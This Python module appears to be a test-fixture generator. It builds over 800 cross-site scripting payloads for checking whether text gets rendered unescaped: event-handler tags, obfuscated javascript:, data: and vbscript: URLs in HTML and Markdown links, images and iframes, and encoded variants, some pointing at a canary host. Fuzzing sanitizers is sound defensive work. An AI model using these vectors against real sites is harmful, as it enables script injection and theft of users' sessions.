"""Texts that run scripts or call home where they are shown unescaped: over 800, the same every time."""

from __future__ import annotations

import json
from collections.abc import Iterator
from html import escape
from itertools import product
from pathlib import Path
from urllib.parse import quote

CANARY = "canary.invalid"
RUN = "alert(1)"
HOME = f"//{CANARY}/x"

TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus",
    "textarea autofocus", "marquee", "iframe src=x", "object data=x", "embed src=x", "a href=#", "p", "b style=x:y",
    "math", "table", "video><source", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x",
    "img src=x srcset=x", "image src=x", "isindex type=image src=x", "link rel=stylesheet href=x",
    "button popovertarget=x", "dialog open",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onmouseover", "onanimationstart", "onpointerover")
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "\tjavascript:{run}", "java\tscript:{run}",
    "java&#10;script:{run}", "java&NewLine;script:{run}", "javascript&colon;{run}", "&#106;avascript:{run}",
    "&#x6A;&#x61;vascript:{run}", "\x01javascript:{run}", "&#1;javascript:{run}", "javascript://%0a{run}",
    "javascript:/*--></title></style>*/{run}", "vbscript:MsgBox(1)", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={run}>",
    "feed:javascript:{run}", "view-source:javascript:{run}", "blob:x", "filesystem:x", "//" + CANARY + "/x",
    "https:\\\\" + CANARY + "\\x", "jar:javascript:{run}!/", "javascript\u200b:{run}", "ｊavascript:{run}",
    "javascript%3A{run}", "%6Aavascript:{run}", "&Tab;javascript:{run}",
)  # fmt: skip
PLACES = (
    '<a href="{url}">x</a>', "[x]({url})", "[x](<{url}>)", "![x]({url})", "<{url}>", "[x][r]\n\n[r]: {url}",
    '<img src="{url}">', '<iframe src="{url}"></iframe>', '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>',
    '<form action="{url}"><button>x</button></form>',
)  # fmt: skip
WRITTEN = Path(__file__).parents[1] / "data" / "xss.txt"


def payloads() -> list[str]:
    """Every family, each once."""
    return list(dict.fromkeys(_all()))


def sample(count: int) -> list[str]:
    """Some of every family."""
    found = payloads()
    step = len(found) / count
    return [found[int(number * step)] for number in range(count)]


def _all() -> Iterator[str]:
    for number, (tag, event) in enumerate(product(TAGS, EVENTS)):
        quoted = (RUN, f'"{RUN}"', f"'{RUN}'", f"`{RUN}`")[number % 4]
        yield f"<{tag} {event}={quoted}>"
    for scheme, place in product(SCHEMES, PLACES):
        yield place.format(url=scheme.format(run=RUN))
    written = [json.loads(line) for line in WRITTEN.read_text("utf-8").splitlines() if line.startswith('"')]
    texts = [each.replace("{run}", RUN).replace("{home}", HOME) for each in written]
    yield from texts
    for each in texts[:20]:
        yield quote(each)
        yield escape(each)
        yield escape(escape(each))
        yield each.upper().replace("ALERT", "alert")
